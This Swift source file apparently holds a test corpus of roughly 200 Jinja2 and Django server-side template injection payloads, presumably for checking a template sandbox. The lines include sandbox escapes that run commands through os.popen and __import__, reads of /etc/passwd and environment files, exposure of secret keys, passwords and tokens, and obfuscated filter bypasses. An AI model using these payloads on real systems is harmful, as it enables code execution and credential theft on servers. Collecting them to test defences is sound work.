/// Templates that got out of a sandbox somewhere, or tried to.
enum Attempts {
    static let all = rows.split(separator: "\n").map(String.init)

    private static let rows = #"""
        {{ ''.__class__.__mro__[1].__subclasses__() }}
        {{ ''.__class__.__base__.__subclasses__()[40]('/etc/passwd').read() }}
        {{ ''.__class__.mro()[1].__subclasses__() }}
        {{ [].__class__.__base__.__subclasses__() }}
        {{ ().__class__.__bases__[0].__subclasses__() }}
        {{ {}.__class__.__bases__[0].__subclasses__() }}
        {{ (1).__class__.__base__ }}
        {{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}
        {{ request['application']['__globals__']['__builtins__'] }}
        {{ request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f') }}
        {{ ''|attr('\x5f\x5fclass\x5f\x5f')|attr('\x5f\x5fmro\x5f\x5f') }}
        {{ ''|attr('\u005f_class_\u005f') }}
        {{ ''|attr('__class' ~ '__') }}
        {{ ''|attr(['__', 'class', '__']|join) }}
        {{ ''|attr('__ssalc__'|reverse) }}
        {{ ''|attr('__CLASS__'|lower) }}
        {{ ''|attr('%s%s'|format('__class', '__')) }}
        {{ ''|attr('_' * 2 ~ 'class' ~ '_' * 2) }}
        {{ ''['__cla' 'ss__']['__mro__'] }}
        {{ ''[['__', 'class__']|join]['x'] }}
        {{ ''['__class__'|string].x }}
        {{ config.items() }}
        {{ config.__class__.__init__.__globals__['os'].popen('id').read() }}
        {{ self.__init__.__globals__.__builtins__ }}
        {{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}
        {{ self._TemplateReference__context.namespace.__init__.__globals__.os }}
        {{ self._TemplateReference__context.joiner.__init__.__globals__ }}
        {{ self.__dict__ }}
        {{ self.__class__.__mro__ }}
        {{ cycler.__init__.__globals__.os.popen('id').read() }}
        {{ joiner.__init__.__globals__.os.popen('id').read() }}
        {{ namespace.__init__.__globals__.os.popen('id').read() }}
        {{ lipsum.__globals__['os'].popen('id').read() }}
        {{ lipsum.__globals__.__builtins__.open('/etc/passwd').read() }}
        {{ range.__globals__ }}{{ range.__code__.co_consts }}
        {{ dict.__base__.__subclasses__() }}
        {{ dict.__subclasses__() }}
        {{ dict.mro()[1] }}
        {{ dict|attr('mro') }}
        {{ cycler.mro() }}
        {{ namespace|attr('mro')() }}
        {{ url_for.__globals__ }}
        {{ get_flashed_messages.__globals__.__builtins__ }}
        {{ url.__globals__ }}{{ static.__globals__ }}
        {{ url('admin:index') }}
        {{ static('../../etc/passwd') }}
        {{ g.pop.__globals__ }}
        {{ session.__class__ }}
        {{ app.secret_key }}
        {{ settings.SECRET_KEY }}
        {{ settings.DATABASES }}
        {{ 'SECRET_KEY'|settings_or_config }}
        {{ 'DATABASES'|settings_or_config }}
        {{ 'x'|settings_or_config('plugin') }}
        {{ get_settings_or_config('SECRET_KEY') }}
        {{ __builtins__ }}{{ __import__ }}{{ __loader__ }}{{ __file__ }}{{ __name__ }}
        {{ __import__('os').system('id') }}
        {{ open('/etc/passwd') }}
        {{ eval('1+1') }}{{ exec('1') }}
        {{ getattr('', '__class__') }}
        {{ type('') }}
        {{ vars() }}{{ locals() }}{{ globals() }}{{ dir() }}
        {{ compile('1', 'x', 'eval') }}
        {{ input() }}{{ print(1) }}{{ help() }}
        {{ os.environ }}{{ sys.modules }}{{ subprocess }}
        {{ env }}{{ environment }}{{ ENV }}
        {{ obj._meta.model }}
        {{ obj._meta.apps.get_models() }}
        {{ obj._state.db }}
        {{ obj.__class__.objects.all() }}
        {{ obj.objects.all() }}{{ obj.objects.raw('select 1') }}
        {{ obj.delete() }}
        {{ obj.save() }}
        {{ obj.refresh_from_db() }}
        {{ obj.secrets_group.get_secret_value('Generic', 'password') }}
        {{ obj.get_value() }}
        {{ obj.location.__class__.objects }}
        {{ obj.name.__class__.__mro__ }}
        {{ obj.pk.__class__ }}{{ obj.id.hex.__self__ }}
        {{ obj.cf.__class__ }}{{ obj.custom_field_data.__class__ }}
        {{ obj.tags.all().query }}
        {{ obj.interfaces.first().device.token.key }}
        {{ user.password }}{{ user.tokens.first().key }}
        {{ obj|meta('app_label') }}
        {{ obj|has_perms('x') }}
        {{ obj|hyperlinked_object }}
        {{ '{0.__class__}'.format('') }}
        {{ '{0.__class__.__mro__}'.format('') }}
        {{ '{0[__class__]}'.format('') }}
        {{ '{a.__class__.__init__.__globals__}'.format(a=obj) }}
        {{ '{0.__init__.__globals__[os]}'.format(cycler) }}
        {{ '{.__class__}{.__dict__}'.format(obj, obj) }}
        {{ '{x.__class__}'.format_map({'x': 1}) }}
        {{ '{0.format.__self__}'.format('') }}
        {{ ''.format.__self__ }}{{ ''.format_map.__func__ }}
        {{ ('{0.__class__.__mro__}'|attr('format'))('') }}
        {{ ['{0.__class__.__mro__}']|map('format', 1)|list }}
        {{ '%s'|format(''.__class__) }}
        {{ '%(__class__)s'|format(a=1) }}
        {{ '%(__class__)s' % obj }}
        {{ ''.join.__class__ }}{{ ''.upper.__call__() }}
        {{ ''.upper.__self__.__class__ }}
        {{ [].append.__self__.__class__ }}
        {{ {}.get.__self__ }}{{ {}.items.__func__ }}
        {{ [''] | map('attr', '__class__') | list | join }}
        {{ [''] | map(attribute='__class__') | list | join }}
        {{ [''] | map(attribute='__class__.__mro__') | list }}
        {{ ['']|selectattr('__class__')|list|join }}
        {{ ['']|selectattr('__class__', 'sameas', 1)|list }}
        {{ ['']|rejectattr('__class__.__mro__')|list }}
        {{ ['']|groupby('__class__') }}
        {{ ['']|groupby('__class__.__name__') }}
        {{ ['']|sort(attribute='__class__.__name__') }}
        {{ ['']|unique(attribute='__class__.__name__')|list }}
        {{ ['']|sum(attribute='__class__', start='') }}
        {{ ['']|max(attribute='__class__.__name__') }}
        {{ ['']|min(attribute='__class__.x') }}
        {{ ['']|join(',', attribute='__class__') }}
        {{ [obj]|map(attribute='__dict__')|first }}
        {{ [obj]|map('attr', '__init__')|map('attr', '__globals__')|list|join }}
        {{ {'__class__': 1}.__class__ }}
        {{ {'a': ''}.a.__class__ }}
        {{ ({}|items).gi_frame }}
        {{ ([1]|map('string')).gi_code }}
        {{ ([1]|select).gi_frame.f_globals }}
        {{ ([1]|batch(1)).__class__ }}
        {{ (range(3)).__class__ }}{{ range(3).__reduce__() }}
        {{ none.__class__ }}{{ none.__class__.__mro__ }}
        {{ true.__class__.__base__ }}
        {{ nope.__class__.__init__.__globals__ }}
        {{ nope._undefined_exception }}{{ nope._undefined_obj }}
        {{ nope._fail_with_undefined_error() }}
        {{ nope.__init__.__globals__ }}
        {% for x in [1] %}{{ loop.__class__ }}{{ loop._iterator }}{% endfor %}
        {% for x in [1] %}{{ loop.__init__.__globals__ }}{% endfor %}
        {% for x in ''.__class__.__mro__ %}{{ x }}{% endfor %}
        {% for k in obj.__dict__ %}{{ k }}{% endfor %}
        {% if ''.__class__ %}{{ ''.__class__ }}{% endif %}
        {% set x = ''.__class__ %}{{ x }}{{ x.__mro__ }}
        {% set ns = namespace() %}{% set ns.__class__ = 1 %}{{ ns.__class__.__mro__ }}
        {% set ns = namespace(__class__=1) %}{{ ns.__class__ }}
        {% set obj.name = 'x' %}
        {% set self.x = 1 %}
        {% set range = 1 %}{{ range.__class__ }}
        {% macro m() %}{% endmacro %}{{ m._func.__globals__ }}
        {% macro m() %}{% endmacro %}{{ m.__class__ }}{{ m._environment }}{{ m._invoke }}
        {% macro m() %}{{ caller.__class__ }}{{ caller._func }}{% endmacro %}{% call m() %}{% endcall %}
        {% macro m() %}{{ varargs.__class__ }}{{ kwargs.__class__ }}{% endmacro %}{{ m(1, a=2) }}
        {% filter attr('__class__') %}x{% endfilter %}
        {% set x | attr('__class__') %}a{% endset %}{{ x }}
        {% with x = ''.__class__ %}{{ x }}{% endwith %}
        {% block b %}{{ self.b.__class__ }}{{ super.__class__ }}{% endblock %}
        {% include '/etc/passwd' %}
        {% include 'file:///etc/passwd' %}
        {% include ['/etc/passwd', '/proc/self/environ'] %}
        {% extends '/etc/passwd' %}
        {% import '/etc/passwd' as p %}{{ p }}
        {% from '/etc/passwd' import root %}
        {% import 'os' as os %}{{ os.popen('id') }}
        {% debug %}
        {% csrf_token %}
        {% load x %}
        {% ssi '/etc/passwd' %}
        {% url 'admin:index' %}
        {% cache 1 x %}{% endcache %}
        {% trans x=''.__class__ %}{{ x }}{% endtrans %}
        {% trans %}{{ __class__ }}{% endtrans %}
        {{ gettext('%(x)s', x=''.__class__) }}
        {{ gettext.__globals__ }}{{ _.__globals__ }}{{ ngettext.__code__ }}
        {{ caller.__class__ }}{{ varargs }}{{ kwargs }}
        {{ loop.__class__ }}{{ super() }}
        {{ context }}{{ environment }}{{ eval_ctx }}{{ resolve }}
        {{ 'x'|tcp_ping(80) }}
        {{ 'localhost'|fqdn_to_ip }}
        {{ 'localhost'|is_fqdn_resolvable }}
        {{ 'x'|get_nist_urls('y', 'z') }}
        {{ '0822455D0A16'|decrypt_type7 }}
        {{ 'secret'|encrypt_type5 }}{{ 'secret'|encrypt_type9 }}
        {{ '(?R)'|regex_search('a') }}
        {{ '(?C1)a'|regex_search('a') }}
        {{ '\\C'|regex_search('é') }}
        {{ "\u202e__class__" }}{{ ''['__сlass__'] }}
        {{ ''.__class__|pprint }}{{ ''.__class__|string }}{{ ''.__class__|list }}
        {{ ''.__class__|tojson }}
        {{ ''.__class__|default('x') }}
        {{ ''.__class__ is defined }}{{ ''.__class__ is callable }}
        {{ ''.__class__ ~ ''.__class__ }}
        {{ ''.__class__ == ''.__class__ }}
        {{ {'a': ''.__class__} }}
        {{ ''.__class__() }}
        {{ (''.__class__)('x') }}
        {{ [''.__class__][0].__mro__ }}
        {{ ''.__doc__ }}{{ ''.__len__() }}{{ ''.__add__('x') }}
        {{ l.__class__ }}{{ d.__class__ }}{{ l.__getitem__(0) }}
        {{ l.__init__.__objclass__ }}{{ d.__getattribute__('x') }}
        {{ d.setdefault.__self__ }}{{ d.fromkeys }}
        {{ ('10.0.0.0/30'|ipaddress_network('__class__')) }}
        {{ ('10.0.0.0/30'|ipaddress_network('__init__.__globals__')) }}
        {{ ('10.0.0.1'|ipaddress_address('__class__.__mro__')) }}
        {{ ('10.0.0.1/24'|ipaddress_interface('network.__class__')) }}
        """#
}
